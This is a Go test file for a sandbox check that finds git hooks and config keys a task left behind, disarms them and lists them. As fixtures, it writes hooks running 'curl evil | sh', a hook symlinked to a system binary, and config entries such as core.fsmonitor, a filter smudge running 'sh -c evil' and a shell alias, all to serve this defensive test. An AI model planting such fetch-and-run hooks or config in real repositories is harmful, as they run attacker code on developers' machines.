package workspace

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// A task's sandbox leaves a new pre-commit hook, changes post-checkout,
// links post-merge to a program elsewhere and sets core.fsmonitor: the
// hooks it made or changed lose their execute bits and are listed, the
// link (git runs what it leads to) is removed and listed, unchanged ones
// stay as they were, and the configuration's keys that run programs are
// listed. With allow, the hooks are listed and left as they are.
func TestCheckGit(t *testing.T) {
	for _, allow := range []bool{false, true} {
		dir := t.TempDir()
		hooks := filepath.Join(dir, ".git", "hooks")
		if err := os.MkdirAll(hooks, 0o755); err != nil {
			t.Fatal(err)
		}
		write := func(name, content string, mode os.FileMode) {
			t.Helper()
			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), mode); err != nil {
				t.Fatal(err)
			}
			if err := os.Chmod(filepath.Join(dir, name), mode); err != nil {
				t.Fatal(err)
			}
		}
		write(".git/hooks/pre-push", "#!/bin/sh\necho owner's\n", 0o755)
		write(".git/hooks/post-checkout", "#!/bin/sh\necho owner's\n", 0o755)
		write(".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0o755)
		write(".git/config", "[core]\n\tbare = false\n", 0o644)
		root, err := os.OpenRoot(dir)
		if err != nil {
			t.Fatal(err)
		}
		before, err := SnapshotGit(root)
		if err != nil {
			t.Fatal(err)
		}
		// What the sandbox leaves.
		write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
		write(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", 0o755)
		write(".git/hooks/notes.txt", "not executable\n", 0o644)
		if err := os.Symlink("/usr/bin/id", filepath.Join(hooks, "post-merge")); err != nil {
			t.Fatal(err)
		}
		write(".git/config", "[core]\n\tbare = false\n\tfsmonitor = /tmp/x\n[filter \"lfs\"]\n\tsmudge = sh -c evil\n[alias]\n\tst = status\n\tx = !sh\n[remote \"origin\"]\n\turl = /srv/x\n", 0o644)

		found, err := CheckGit(root, before, allow)
		root.Close()
		if err != nil {
			t.Fatal(err)
		}
		if want := []string{"post-checkout", "post-merge", "pre-commit"}; !slices.Equal(found.Hooks, want) {
			t.Errorf("allow %v: hooks %v, want %v", allow, found.Hooks, want)
		}
		if want := []string{"core.fsmonitor", "filter.lfs.smudge", "alias.x"}; !slices.Equal(found.Config, want) {
			t.Errorf("allow %v: config keys %v, want %v", allow, found.Config, want)
		}
		for name, wantX := range map[string]bool{"pre-commit": allow, "post-checkout": allow, "pre-push": true, "pre-commit.sample": true} {
			fi, err := os.Stat(filepath.Join(hooks, name))
			if err != nil {
				t.Fatal(err)
			}
			if gotX := fi.Mode().Perm()&0o111 != 0; gotX != wantX {
				t.Errorf("allow %v: %s executable %v, want %v", allow, name, gotX, wantX)
			}
		}
		if _, err := os.Lstat(filepath.Join(hooks, "post-merge")); (err == nil) != allow {
			t.Errorf("allow %v: the linked hook: %v", allow, err)
		}
		if fi, err := os.Stat("/usr/bin/id"); err != nil || fi.Mode().Perm()&0o111 == 0 {
			t.Errorf("a hook linked out: its target changed: %v", err)
		}
	}
}

// A workspace without git, or whose .git or hooks is a link, has nothing
// to look at and nothing is followed.
func TestCheckGitNoRepository(t *testing.T) {
	dir := t.TempDir()
	elsewhere := t.TempDir()
	if err := os.MkdirAll(filepath.Join(elsewhere, "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(elsewhere, "hooks", "pre-commit"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	before, err := SnapshotGit(root)
	if err != nil || len(before.Hooks) != 0 {
		t.Fatalf("no .git: %+v, %v", before, err)
	}
	if err := os.Symlink(elsewhere, filepath.Join(dir, ".git")); err != nil {
		t.Fatal(err)
	}
	found, err := CheckGit(root, before, false)
	if err != nil || len(found.Hooks) != 0 {
		t.Errorf(".git a link: %+v, %v; want nothing", found, err)
	}
	if fi, _ := os.Stat(filepath.Join(elsewhere, "hooks", "pre-commit")); fi.Mode().Perm()&0o111 == 0 {
		t.Errorf("a hook through a .git link was changed")
	}
}
